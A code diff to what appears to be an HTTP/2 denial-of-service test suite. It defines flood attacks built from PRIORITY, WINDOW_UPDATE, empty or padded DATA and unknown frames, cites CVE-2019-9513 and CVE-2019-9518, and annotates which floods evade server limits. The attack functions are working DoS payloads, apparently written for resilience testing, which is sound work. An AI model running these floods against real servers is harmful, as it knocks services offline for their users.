@@ -6,6 +6,10 @@ from peer import DATA, END_HEADERS, HEADERS, PING, PRIORITY, SETTINGS, WINDOW, o
 from wire import frame, message
 
 
+# What is known of frames that no limit counts: one core of the server for one of the attacker's.
+FREE = "frames that bring nothing have no budget"
+
+
 def of(bytes, count=1000):
     """The same frames over and over."""
     batch = bytes * count
@@ -53,7 +57,7 @@ def settings_wide(run):
     run.flood(of(frame(SETTINGS, payload=b"\0\4\0\1\0\0" * 2700), 10))
 
 
-@attack("PRIORITY flood", cut=2, attackers=2)
+@attack("PRIORITY flood", cut=2, attackers=2, known={"cut": FREE})
 def priority(run):
     """CVE-2019-9513: streams that do not exist change their places."""
 
@@ -67,25 +71,31 @@ def priority(run):
     run.flood(begin)
 
 
-@attack("WINDOW_UPDATE flood", cut=2, attackers=2)
+@attack("WINDOW_UPDATE flood", cut=2, attackers=2, known={"cut": FREE})
 def window_update(run):
     run.flood(of(frame(WINDOW, payload=(1).to_bytes(4, "big"))))
 
 
-@attack("empty DATA flood", cut=2, attackers=2)
+@attack("empty DATA flood", cut=2, attackers=2, known={"cut": FREE})
 def empty_data(run):
     """CVE-2019-9518: DATA without a byte uses up no window."""
     run.flood(on_an_open_call(run, lambda stream: frame(DATA, 0, stream)))
 
 
-@attack("DATA of one byte", cut=2, attackers=2)
+@attack("DATA of one byte", attackers=2)
 def dribble(run):
-    """A message of many frames: nine bytes of frame for each of its own."""
-    begin = on_an_open_call(run, lambda stream: frame(DATA, 0, stream, b"\0"))
-    run.flood(begin)
+    """A message of 2,000 frames: nine bytes of frame for each of its own. Wasteful, but each brings something."""
+    body = message(bytes(2000))
+
+    def frames(stream, block):
+        yield open_call(stream, block)
+        for at in range(len(body)):
+            yield frame(DATA, int(at == len(body) - 1), stream, body[at : at + 1])
+
+    run.calls(request(token=run.token), frames, at_once=10)
 
 
-@attack("padded DATA flood", cut=2, attackers=2)
+@attack("padded DATA flood", cut=2, attackers=2, known={"cut": FREE})
 def padded_data(run):
     """DATA that is padding only: uses up window, brings no byte of a message."""
     run.flood(on_an_open_call(run, lambda stream: frame(DATA, 8, stream, b"\xff" + bytes(255))))
@@ -101,7 +111,7 @@ def empty_headers(run):
     run.flood(begin)
 
 
-@attack("flood of unknown frames", cut=2, attackers=2)
+@attack("flood of unknown frames", cut=2, attackers=2, known={"cut": FREE})
 def unknown_frames(run):
     """Kinds that nobody has defined are to be ignored (RFC 9113, section 4.1)."""
     run.flood(of(frame(0xBB, payload=bytes(16))))
